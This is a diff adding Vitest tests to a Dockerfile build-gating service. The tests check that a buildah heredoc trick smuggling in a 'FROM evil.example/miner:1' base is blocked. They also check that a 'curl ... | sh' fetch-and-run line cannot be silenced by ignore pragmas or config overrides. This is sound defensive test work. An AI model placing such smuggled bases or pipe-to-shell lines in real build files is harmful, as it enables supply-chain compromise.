@@ -4,10 +4,12 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { GitDefinitionSource } from '../../../adapters/local/git-definition-source.js';
 import { createBareRepository } from '../../../adapters/local/git-repositories.js';
+import { BUILDAH_1_28, BUILDKIT } from '../../../core/dockerfile/builder-profile.js';
 import { parseEvent } from '../../../core/events/index.js';
 import {
   DEFAULT_MAX_DEFINITIONS_PER_PUSH,
   gateRequestedDefinition,
+  type HandlePushDeps,
   handlePush,
   splitPush,
 } from '../../../core/gate/handle-push.js';
@@ -289,5 +291,43 @@ describe('gateRequestedDefinition', () => {
     expect(again.builds.map((b) => [b.id, b.detail.buildId])).toEqual(
       api.builds.map((b) => [b.id, b.detail.buildId]),
     );
+  });
+});
+
+describe('handlePush and syntax a builder reads differently', () => {
+  const deps = (source: GitDefinitionSource, extra: Partial<HandlePushDeps> = {}) => ({
+    source,
+    policy: async () => policy,
+    clock: { now: () => new Date('2026-11-27T12:00:00Z') },
+    ...extra,
+  });
+  const verdictOf = (out: Awaited<ReturnType<typeof handlePush>>) => out.verdicts[0]?.detail;
+
+  it('does not build a heredoc whose body buildah would read as a FROM of an unseen base', async () => {
+    const { source, commit } = await repoWith({
+      'api/Dockerfile':
+        'FROM node:20-bookworm-slim\nUSER 1000\nRUN true <<\'#\'\nFROM evil.example/miner:1\n#\nCMD ["node", "a.js"]\n',
+    });
+    const pushed = push(commit, [{ path: 'api/Dockerfile', change: 'added' }]);
+    const local = await handlePush(pushed, deps(source, { builders: [BUILDAH_1_28] }));
+    expect(verdictOf(local)?.passed).toBe(false);
+    expect(verdictOf(local)?.findings.map((f) => [f.code, f.line])).toContainEqual(['DD004', 3]);
+    expect(local.builds).toEqual([]);
+    const aws = await handlePush(pushed, deps(source, { builders: [BUILDKIT] }));
+    expect(verdictOf(aws)?.passed).toBe(true);
+  });
+
+  it("does not let the team's .drydock.yaml, its pragmas or a severity override silence DD001", async () => {
+    const { source, commit } = await repoWith({
+      'api/Dockerfile':
+        'FROM node:20-bookworm-slim\nUSER 1000\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n',
+      '.drydock.yaml': 'failure-threshold: error\nignored: [DD001, DD002]\noverride:\n  info: [DD001]\n',
+    });
+    const out = await handlePush(push(commit, [{ path: 'api/Dockerfile', change: 'added' }]), deps(source));
+    expect(verdictOf(out)?.passed).toBe(false);
+    expect(verdictOf(out)?.findings).toContainEqual(
+      expect.objectContaining({ code: 'DD001', level: 'error', line: 4 }),
+    );
+    expect(out.builds).toEqual([]);
   });
 });
